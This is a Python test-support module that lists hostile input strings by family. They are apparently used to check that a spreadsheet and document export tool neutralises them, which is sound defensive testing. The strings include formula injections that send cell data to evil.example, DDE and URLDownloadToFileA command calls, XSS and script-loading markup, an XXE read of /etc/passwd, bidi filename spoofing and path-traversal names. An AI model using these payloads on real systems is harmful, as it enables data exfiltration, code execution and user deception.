"""Texts that strangers type to make a program run, fetch, hide or break something, and what must be left of each.

Where it is put somewhere, a text gets the word of that place behind it, so that a test can tell a text that was made
harmless from one that was swallowed.
"""

from __future__ import annotations

import os
import unicodedata
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from functools import cache

from support.examples import examples

_BIDI = ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
_MARKS = "\u061c\u200e\u200f"
"""The bidi controls that Unicode gives the class of a letter or of nothing."""
_UNSEEN = (range(0xFFF9, 0xFFFC), range(0xE0000, 0xE0080), range(0xFEFF, 0xFF00))
"""Annotation characters, tags, and the byte order mark."""
LONG = examples(60)
"""Characters of the long texts."""


@dataclass(frozen=True, slots=True)
class Payload:
    """One text of the table: its family, and the text as typed."""

    family: str
    text: str

    def at(self, word: str) -> str:
        """The text with the word of the place it is put into, so that what comes out can be told from other places."""
        return self.text if self.family in _WHOLE else f"{self.text}{word}"

    @property
    def in_xml(self) -> bool:
        """Whether an XML file, and so a data file by our contract, may hold it as it stands."""
        return not any(is_illegal_in_xml(letter) for letter in self.text)


@cache
def forbidden(letter: str) -> bool:
    """Whether a character may stand in nothing that goes out; by its properties in Unicode, not by our lists."""
    code = ord(letter)
    return (
        (unicodedata.category(letter) in ("Cc", "Zl", "Zp", "Cs") and letter not in "\n\t")
        or unicodedata.bidirectional(letter) in _BIDI
        or letter in _MARKS
        or code & 0xFFFE == 0xFFFE
        or 0xFDD0 <= code <= 0xFDEF
        or any(code in one for one in _UNSEEN)
    )


def squeezed(text: str) -> str:
    """The text without blanks of any kind and without what may not stand in it."""
    return text.translate({ord(letter): None for letter in set(text) if letter.isspace() or forbidden(letter)})


def is_illegal_in_xml(letter: str) -> bool:
    return (letter < " " and letter not in "\t\n\r") or letter in "\ufffe\uffff" or "\ud800" <= letter <= "\udfff"


def _starts() -> Iterator[str]:
    """What begins a formula, in every form, behind everything that programs skip before it."""
    for sign in "=+-@＝＋－＠﹢﹣﹦﹫−":
        yield f"{sign}1+1"
    for before in ("\t", "\r", "\n", "\r\n", " ", "\u3000", "\xa0", "'", '"', "''", '" ', "\u200b", "\u2060", "\xad"):
        yield f"{before}=1+1"
    for before in ("\u202e", "\u200f", "\u2066", "\ufeff", "\x00", "\x1b", "\ufe0f", "\u3164", "\u180e"):
        yield f"{before}=1+1"
    yield "＝\u200b1+1"
    yield "%0A=1+1"
    yield "=1+1;+1;-1|@1,=1"


_TABLE: Mapping[str, tuple[str, ...]] = {
    "formula": tuple(_starts()),
    "call": (
        '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
        '+HYPERLINK("file:///etc/passwd","看")',
        '=WEBSERVICE("http://evil.example/"&A1)',
        '=IMPORTXML(CONCAT("http://evil.example/?",A1:A9),"//a")',
        '=IMAGE("http://evil.example/a.png")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=DDE("cmd";"/C calc";"a")',
        "=[外部.xlsx]表!A1",
        "='http://evil.example/[a.xlsx]表'!A1",
        "{=SUM(A1:A9*B1:B9)}",
        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example/a","a",0,0)',
        '=EXEC("calc")',
        "http://evil.example/",
        "\\\\evil.example\\share\\a",
        "mailto:a@evil.example",
        "internal:表!A1",
    ),
    "escape": ("_x000D_", "_x0000_空", "_x003D_1+1", "_x005F_x000D_", "_x202E_", "a_xD800_b", "&#x0A;", "%00"),
    "markup": (
        "<script>alert(1)</script>",
        "</script><script src=//evil.example/a.js></script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>点</a>",
        '" onclick="alert(1)',
        "' onmouseover='alert(1)",
        "<svg/onload=alert(1)>",
        "<iframe src=//evil.example></iframe>",
        "<form action=//evil.example><input></form>",
        "<object data=a></object><embed src=a>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
        "<use xlink:href='http://evil.example/a.svg#a'/>",
        "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
        "<style>@import url(//evil.example/a.css)</style>",
        "</style></title></textarea></svg></math>",
        "<!-- 注释 --><!--><![CDATA[x]]><?php echo 1?>",
        "]]></w:t></w:r><w:instrText>DDEAUTO cmd calc</w:instrText>",
        '</is></c><c r="A1"><f>1+1</f></c>',
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
        "&lt;b&gt; &amp;amp; &quot; &#60;b&#62; &nbsp;",
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
        "expression(alert(1)) url(javascript:alert(1))",
    ),
    "control": (
        "前\x00后",
        "前\x01\x02\x07\x08后",
        "前\x0b\x0c后",
        "前\x1b[31m后\x1b]0;标题\x07",
        "前\x7f\x80\x85\x9b31m\x9f后",
        "前\r后",
        "\x1c\x1d\x1e\x1f前后",
        "前\ud800后\udfff",
        "\udcff前\udc80",
        "前\ufdd0\ufdef\ufffe\uffff后\U0001fffe\U0010ffff",
        "前\ufeff\ufff9注\ufffa解\ufffb后",
        "前\U000e0001\U000e0041\U000e007f后",
        "前\u2028后\u2029终",
    ),
    "bidi": (
        "前\u202a甲\u202b乙\u202c后",
        "年报\u202efdp.exe",
        "前\u202d甲\u202c后",
        "\u2066前\u2067甲\u2068乙\u2069后",
        "前\u200e\u200f\u061c后",
        "\u202e\u202e\u202e前后",
    ),
    "unseen": (
        "前\u200b中\u200c间\u200d后",
        "前\u2060\u2061\u2064后",
        "前\xad\u034f\u115f\u3164\u180e后",
        "前\ufe0f后",
    ),
    "long": ("长" * LONG, "<" * LONG, "=" * LONG, '"' * LONG, "\u0301" * 60 + "叠", "W" * LONG),
    "typst": (
        '#read("/etc/passwd")',
        '#import "a.typ": *',
        "#set page(width: 1pt)",
        "$x^2$ *粗* _斜_ `码`",
        "[] @ref <label>",
        "\\ \\u{202e} \\n #(1+1) //注 /*注*/",
        "= 标题",
        '#eval("1")',
    ),
    "data": (
        '"},"unit":{"name":"假"},"x":{"',
        '\\", \\u0022 \\',
        'a,b;c\td"e"|f',
        '","=1+1","',
        "',\"=1+1",
        "甲\n=1+1\n乙",
        "NaN",
        "null",
        "TRUE",
        "1E5",
        "1-2",
        "3月5日",
        "007",
        "１２件",
        "{没有的}{=1+1}",
        "〔待填：甲〕",
    ),
    "name": (
        "../../甲",
        "..\\..\\甲",
        "/etc/甲",
        "C:\\甲",
        "甲:流",
        "CON",
        "nul.txt",
        "COM1.甲",
        "aux",
        "~$甲",
        ".甲",
        "-rf 甲",
        "甲 . . ",
        '<>:"/\\|?*',
        "甲%2F..%2F乙",
        "甲#片?问=1",
    ),
    "ends": (
        "<r><t>甲</t></r>",
        "<r><t>甲</t></r></si><si><t>乙</t></si><si><r><t>丙</t></r>",
        "<r>&x;</r>",
        "<r></si></sst></r>",
        "_x005F_x0007_",
        "_x0041_x0042_x005F_x000D_",
        "{=1+1}",
        "'甲'",
    ),
    "letters": (
        "表情😀👨‍👩‍👧‍👦🇨🇳",
        "𠮷𫝀㐀",
        "私\ue000\U000f0000用",
        "עברית",
        "نص",
        "é\u0301",
        "ﷺ",
        "\u1100\u1161\u11a8",
    ),
}


_WHOLE = ("data", "name", "ends", "long")
"""Families whose texts do their work only as they are, with nothing behind them."""
PAYLOADS = tuple(Payload(family, text) for family, texts in _TABLE.items() for text in texts)
FAMILIES = tuple(_TABLE)


ALL = bool(os.environ.get("XL_TOOLS_LONG"))
"""Whether every text is tried in every place of every format; on other runs families share a report."""
_TOGETHER = (
    ("formula", "call"),
    ("markup", "typst", "data", "ends"),
    ("control", "bidi", "unseen", "escape", "name"),
    ("letters", "long"),
)
GROUPS = tuple((family,) for family in FAMILIES) if ALL else _TOGETHER
"""Families that are tried together."""
assert {family for group in GROUPS for family in group} == set(FAMILIES)


def of_families(*families: str) -> tuple[Payload, ...]:
    """The texts of some families."""
    return tuple(one for one in PAYLOADS if one.family in families)
